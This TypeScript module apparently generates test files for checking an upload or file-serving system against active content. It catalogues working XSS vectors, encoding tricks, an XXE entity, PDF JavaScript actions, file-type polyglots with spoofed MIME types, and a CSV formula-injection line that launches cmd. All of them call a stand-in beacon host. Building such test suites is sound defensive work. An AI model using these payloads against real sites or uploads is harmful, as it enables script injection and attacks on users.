import { gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** Where the requests of a specimen go, so that each one that arrives tells whose it was. */
export function beacon(id: string): string {
  return `http://${id}.beacon.test/`;
}

/** A script that calls out in several ways. */
export function scriptOf(id: string): string {
  const to = beacon(id);
  return `(function(){try{new Image().src='${to}image'}catch(e){}try{fetch('${to}fetch',{mode:'no-cors'})}catch(e){}try{document.title='ran ${id}'}catch(e){}try{top.document.title='ran ${id}'}catch(e){}})()`;
}

type Make = (id: string) => Buffer | string;
type Row = readonly [name: string, type: string, make: Make];

const inScript = (id: string): string => `<script>${scriptOf(id)}</script>`;
const page = (id: string): string => `<!doctype html><html><head></head><body>${inScript(id)}</body></html>`;

const htmlRows: readonly Row[] = [
  ['script.html', 'text/html', page],
  ['bare.htm', 'text/html', inScript],
  ['on-error.html', 'text/html', (id) => `<img src="data:," onerror="${scriptOf(id)}">`],
  ['on-load.html', 'text/html', (id) => `<html><body onload="${scriptOf(id)}">`],
  ['svg-in-html.html', 'text/html', (id) => `<svg onload="${scriptOf(id)}"></svg>`],
  ['details.html', 'text/html', (id) => `<details open ontoggle="${scriptOf(id)}">x</details>`],
  ['srcdoc.html', 'text/html', (id) => `<iframe srcdoc="&lt;script&gt;${scriptOf(id)}&lt;/script&gt;"></iframe>`],
  ['javascript-url.html', 'text/html', (id) => `<iframe src="javascript:${scriptOf(id)}"></iframe>`],
  ['module.html', 'text/html', (id) => `<script type="module">${scriptOf(id)}</script>`],
  ['remote-script.html', 'text/html', (id) => `<script src="${beacon(id)}script.js"></script>`],
  ['remote-image.html', 'text/html', (id) => `<img src="${beacon(id)}image.png"><video poster="${beacon(id)}poster">`],
  ['remote-style.html', 'text/html', (id) => `<link rel="stylesheet" href="${beacon(id)}style.css">`],
  [
    'style-import.html',
    'text/html',
    (id) => `<style>@import "${beacon(id)}a.css"; b{background:url(${beacon(id)}b)}</style>`,
  ],
  ['refresh.html', 'text/html', (id) => `<meta http-equiv="refresh" content="0;url=${beacon(id)}refresh">`],
  [
    'frame.html',
    'text/html',
    (id) => `<iframe src="${beacon(id)}frame"></iframe><object data="${beacon(id)}object"></object>`,
  ],
  [
    'preload.html',
    'text/html',
    (id) =>
      `<link rel="preload" as="image" href="${beacon(id)}preload"><link rel="prefetch" href="${beacon(id)}prefetch">`,
  ],
  ['form.html', 'text/html', (id) => `<form id="f" action="${beacon(id)}form"></form><script>f.submit()</script>`],
  ['base.html', 'text/html', (id) => `<base href="${beacon(id)}"><img src="based">`],
  ['after-comment.html', 'text/html', (id) => `<!-- ${'x'.repeat(600)} -->${inScript(id)}`],
  ['after-white-space.html', 'text/html', (id) => `${' \t\n'.repeat(400)}${page(id)}`],
  ['byte-order-mark.html', 'text/html', (id) => `\ufeff${page(id)}`],
  ['utf-16-le.html', 'text/html', (id) => Buffer.from(`\ufeff${page(id)}`, 'utf16le')],
  ['utf-16-be.html', 'text/html', (id) => Buffer.from(`\ufeff${page(id)}`, 'utf16le').swap16()],
  ['utf-16-unmarked.html', 'text/html;charset=utf-16le', (id) => Buffer.from(page(id), 'utf16le')],
  [
    'utf-7.html',
    'text/html;charset=utf-7',
    (id) => `<meta charset="utf-7">+ADw-script+AD4-${scriptOf(id)}+ADw-/script+AD4-`,
  ],
  [
    'iso-2022-jp.html',
    'text/html;charset=iso-2022-jp',
    (id) => `<meta charset="iso-2022-jp"><a title="\u001b$B">\u001b(B" onx=''>${inScript(id)}`,
  ],
  ['nul.html', 'text/html', (id) => `<!doctype html>\u0000${inScript(id)}\u0000`],
  ['xml-prolog.html', 'text/html', (id) => `<?xml version="1.0"?>${page(id)}`],
  ['application.hta', 'text/html', page],
  ['component.htc', 'text/html', (id) => `<public:component>${inScript(id)}</public:component>`],
  ['shtml.shtml', 'text/html', page],
  ['none', 'text/html', page],
];

const xhtml = (body: string): string =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body>${body}</body></html>`;
const cdata = (id: string): string => `<script><![CDATA[${scriptOf(id)}]]></script>`;
const svg = (content: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${content}</svg>`;
const svgType = 'image/svg+xml';
const xslt = (id: string): string =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body>${cdata(id)}</body></html></xsl:template></xsl:stylesheet>`;
const xmlType = 'application/xml';

const xmlRows: readonly Row[] = [
  ['script.svg', svgType, (id) => svg(cdata(id))],
  ['on-load.svg', svgType, (id) => svg('', `onload="${scriptOf(id)}"`)],
  ['declared.svg', svgType, (id) => `<?xml version="1.0" standalone="no"?>${svg(cdata(id))}`],
  [
    'foreign-object.svg',
    svgType,
    (id) =>
      svg(
        `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="x">${cdata(id)}</body></foreignObject>`,
      ),
  ],
  [
    'foreign-frame.svg',
    svgType,
    (id) =>
      svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon(id)}frame"/></foreignObject>`),
  ],
  ['animate.svg', svgType, (id) => svg(`<animate onbegin="${scriptOf(id)}" attributeName="x" dur="1s"/>`)],
  ['remote-image.svg', svgType, (id) => svg(`<image xlink:href="${beacon(id)}image" width="9" height="9"/>`)],
  ['remote-script.svg', svgType, (id) => svg(`<script xlink:href="${beacon(id)}script.js"/>`)],
  ['style.svg', svgType, (id) => svg(`<style>@import url(${beacon(id)}a.css);</style>`)],
  ['style-sheet.svg', svgType, (id) => `<?xml version="1.0"?><?xml-stylesheet href="${beacon(id)}a.css"?>${svg('')}`],
  [
    'entity.svg',
    svgType,
    (id) =>
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "${beacon(id)}entity">]>${svg('<text>&e;</text>' + cdata(id))}`,
  ],
  ['compressed.svgz', svgType, (id) => gzipSync(svg(cdata(id)))],
  ['utf-16.svg', svgType, (id) => Buffer.from(`\ufeff${svg(cdata(id))}`, 'utf16le')],
  ['after-comment.svg', svgType, (id) => `<!-- ${'x'.repeat(5_000)} -->${svg(cdata(id))}`],
  ['script.xhtml', 'application/xhtml+xml', (id) => xhtml(cdata(id))],
  ['on-load.xht', 'application/xhtml+xml', (id) => xhtml(`<img src="data:," onerror="${scriptOf(id)}"/>`)],
  [
    'script.xml',
    xmlType,
    (id) => `<?xml version="1.0"?><a><script xmlns="http://www.w3.org/1999/xhtml">${scriptOf(id)}</script></a>`,
  ],
  [
    'text.xml',
    'text/xml',
    (id) => `<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">${scriptOf(id)}</x:script></a>`,
  ],
  [
    'transformed.xml',
    xmlType,
    (id) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><a>${xslt(id).replace('version', 'id="s" version')}</a>`,
  ],
  [
    'remote-transform.xml',
    xmlType,
    (id) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${beacon(id)}x.xsl"?><a/>`,
  ],
  ['sheet.xsl', 'text/xsl', xslt],
  [
    'include.xml',
    xmlType,
    (id) => `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${beacon(id)}include"/></a>`,
  ],
  ['external.xml', xmlType, (id) => `<?xml version="1.0"?><!DOCTYPE a SYSTEM "${beacon(id)}a.dtd"><a/>`],
  [
    'feed.rss',
    'application/rss+xml',
    (id) =>
      `<rss version="2.0"><channel><x:script xmlns:x="http://www.w3.org/1999/xhtml">${scriptOf(id)}</x:script></channel></rss>`,
  ],
  [
    'feed.atom',
    'application/atom+xml',
    (id) =>
      `<feed xmlns="http://www.w3.org/2005/Atom"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${scriptOf(id)}</x:script></feed>`,
  ],
  [
    'maths.mml',
    'application/mathml+xml',
    (id) =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${scriptOf(id)}</x:script></math>`,
  ],
];

function pdf(id: string, action: string): string {
  const to = beacon(id);
  const actions: Record<string, string> = {
    script: `<< /S /JavaScript /JS (app.launchURL("${to}launch", true); this.submitForm("${to}submit"); app.alert(1);) >>`,
    address: `<< /S /URI /URI (${to}address) >>`,
    form: `<< /S /SubmitForm /F << /FS /URL /F (${to}form) >> >>`,
    launch: `<< /S /Launch /F (${to}launch) >>`,
    remote: `<< /S /GoToR /F << /FS /URL /F (${to}remote.pdf) >> /D [0 /Fit] >>`,
  };
  return `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${actions[action] ?? ''} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O ${actions[action] ?? ''} >> >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n`;
}

const otherRows: readonly Row[] = [
  ...['script', 'address', 'form', 'launch', 'remote'].map((action): Row => [
    `${action}.pdf`,
    'application/pdf',
    (id) => pdf(id, action),
  ]),
  ['html-before.pdf', 'text/html', (id) => `${inScript(id)}\n${pdf(id, 'script')}`],
  ['html-inside.pdf', 'text/html', (id) => pdf(id, 'script').replace('\n', `\n${inScript(id)}\n`)],
  [
    'archive.mhtml',
    'multipart/related',
    (id) =>
      `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x.test/\r\n\r\n${page(id)}\r\n--b--\r\n`,
  ],
  [
    'letter.eml',
    'message/rfc822',
    (id) => `Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page(id)}`,
  ],
  [
    'parts.txt',
    'multipart/x-mixed-replace;boundary=b',
    (id) => `--b\r\nContent-Type: text/html\r\n\r\n${page(id)}\r\n--b--\r\n`,
  ],
  ['plain.txt', 'text/html', page],
  ['data.json', 'text/html', (id) => `{"a": "${inScript(id).replaceAll('"', "'")}"}`],
  ['table.csv', 'text/html', (id) => `a,b\n=cmd|' /C calc'!A0,${inScript(id)}\n`],
  ['notes.md', 'text/html', (id) => `# x\n\n${inScript(id)}\n\n![x](${beacon(id)}image)\n`],
  ['calendar.ics', 'text/html', (id) => `BEGIN:VCALENDAR\nSUMMARY:${inScript(id)}\nEND:VCALENDAR\n`],
  ['subtitles.vtt', 'text/html', (id) => `WEBVTT\n\n00:00.000 --> 00:09.000\n${inScript(id)}\n`],
  [
    'list.m3u8',
    'application/vnd.apple.mpegurl',
    (id) => `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${beacon(id)}segment.ts\n#EXT-X-ENDLIST\n`,
  ],
  ['list.m3u', 'audio/x-mpegurl', (id) => `#EXTM3U\n#EXTINF:9,\n${beacon(id)}song.mp3\n`],
  [
    'list.mpd',
    'application/dash+xml',
    (id) => `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${beacon(id)}</BaseURL></MPD>`,
  ],
  ['style.css', 'text/css', (id) => `@import url(${beacon(id)}a.css); body{background:url(${beacon(id)}b)}`],
  ['flash.swf', 'application/x-shockwave-flash', (id) => `CWS\u0009${inScript(id)}`],
  ['link.url', 'text/html', (id) => `[InternetShortcut]\nURL=${beacon(id)}link\n${inScript(id)}`],
  ['cache.appcache', 'text/html', (id) => `CACHE MANIFEST\n${inScript(id)}`],
  ['markup.bin', 'text/html', (id) => `\u0000\u0001\u0002${page(id)}`],
];

const asHtml = 'text/html';
const bytes = (hex: string): Buffer => Buffer.from(hex, 'hex');

/** Files that begin as a picture, a sound or a film and go on as a page or a script. */
async function polyglotRows(): Promise<Row[]> {
  const picture = sharp({ create: { width: 8, height: 8, channels: 3, background: '#3366cc' } });
  const bodies: [string, Buffer][] = [
    ['a.png', await picture.clone().png().toBuffer()],
    ['a.jpg', await picture.clone().jpeg().toBuffer()],
    ['a.webp', await picture.clone().webp().toBuffer()],
    ['a.gif', await picture.clone().gif().toBuffer()],
    ['a.tiff', await picture.clone().tiff().toBuffer()],
    ['a.avif', await picture.clone().avif().toBuffer()],
    ['a.mp4', bytes('0000001c6674797069736f6d0000020069736f6d69736f326d703431')],
    ['a.mp3', bytes('49443304000000000000fffb9064')],
    ['a.ogg', bytes('4f67675300020000000000000000')],
    ['a.wav', Buffer.concat([Buffer.from('RIFF'), bytes('24000000'), Buffer.from('WAVEfmt ')])],
    ['a.webm', bytes('1a45dfa39f4286810142f7810142f2810442f381084282847765626d')],
    ['a.flac', Buffer.from('fLaC\u0000\u0000\u0000\u0022')],
    ['a.bmp', bytes('424d3a00000000000000360000002800000001000000010000000100180000000000')],
    ['a.ico', bytes('00000100010001010000010018003000000016000000')],
    ['a.psd', Buffer.from('8BPS\u0000\u0001')],
    ['a.zip', bytes('504b0304140000000800')],
    ['a.wasm', bytes('0061736d01000000')],
  ];
  return [
    ...bodies.map(([name, body]): Row => [
      `page-after-${name}`,
      asHtml,
      (id) => Buffer.concat([body, Buffer.from(page(id))]),
    ]),
    ...bodies.slice(0, 4).map(([name, body]): Row => [
      `page-in-${name}`,
      asHtml,
      (id) => {
        const at = Math.min(24, body.length);
        return Buffer.concat([body.subarray(0, at), Buffer.from(page(id)), body.subarray(at)]);
      },
    ]),
    [
      'comment.gif',
      asHtml,
      (id) =>
        Buffer.concat([
          bytes('474946383961010001008000000000000000002c000000000100010000020244010021fe'),
          Buffer.from(`\u00ff${page(id)}\u0000;`, 'latin1'),
        ]),
    ],
    ['script.gif', 'text/javascript', (id) => `GIF89a/*\u0001\u0000\u0001*/=1;${scriptOf(id)}`],
    ['script.bmp', 'text/javascript', (id) => `BM/*\u0000\u0000*/=1;${scriptOf(id)}`],
    [
      'script.jpg',
      'text/javascript',
      (id) => Buffer.concat([bytes('ffd8ffe0'), Buffer.from(`/*JFIF*/=1;${scriptOf(id)}`)]),
    ],
    ['script.wav', 'text/javascript', (id) => `RIFF=1/*WAVE*/;${scriptOf(id)}`],
    ['script.js', 'text/javascript', scriptOf],
    ['script.pdf', 'text/javascript', (id) => `//%PDF-1.4\n${scriptOf(id)}`],
  ];
}

/** What a client may lie about a file. */
const claims = [
  '',
  'text/html',
  'image/png',
  'text/plain',
  'application/pdf',
  'video/mp4',
  svgType,
  'application/xhtml+xml',
  'TEXT/HTML; charset=utf-7',
  'image/png, text/html',
  '*/*',
  'text/xml',
  'audio/x-mpegurl',
  'multipart/x-mixed-replace;boundary=b',
  'image/x-icon',
  'text/javascript',
];

/** A file that does something when a browser takes it for what it says it is. */
export interface Specimen {
  /** Stands in all that it does. */
  id: string;
  name: string;
  bytes: Buffer;
  /** The type under which it does what it is meant to do. */
  type: string;
  /** The type that the uploader claims; empty where none. */
  claim: string;
}

/** Every active file under its own type and two lies that differ from file to file. */
export async function specimens(): Promise<Specimen[]> {
  const rows = [...htmlRows, ...xmlRows, ...otherRows, ...(await polyglotRows())];
  return rows.flatMap(([name, type, make], n) =>
    [type, ...[0, 1].map((k) => claims[(2 * n + k * 5) % claims.length] ?? '')].map((claim, k): Specimen => {
      const id = `s${n}-${k}`;
      return { id, name: `${id}-${name}`, type, claim, bytes: Buffer.from(make(id)) };
    }),
  );
}
